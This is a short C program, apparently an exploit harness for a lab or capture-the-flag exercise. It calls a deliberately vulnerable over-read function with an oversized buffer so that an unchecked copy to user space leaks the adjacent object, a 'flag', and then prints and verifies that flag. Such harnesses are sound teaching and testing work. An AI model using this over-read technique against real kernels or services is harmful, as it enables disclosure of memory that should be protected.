/* A copy to user space whose length nobody checked runs on into the next object: the flag. */
#include "attack.h"

/* The record, and as much as the allocator puts between two objects. */
enum { NR_WORDS = BW_SEALED_BYTES / 8 + 2 };

int main(void)
{
	uint64_t words[NR_WORDS] = { 0 };
	long status = bw_vuln_overread(words, sizeof(words));

	attack_check("vuln_overread", status);
	attack_say("%zu bytes of a record of %d: %s", sizeof(words), BW_SEALED_BYTES,
		   status < 0 ? "refused" : "copied");
	attack_say("the last eight are 0x%lx: the flag, if the copy went on", words[NR_WORDS - 1]);
	bw_flag_prove(words[NR_WORDS - 1]);
	return attack_finish();
}
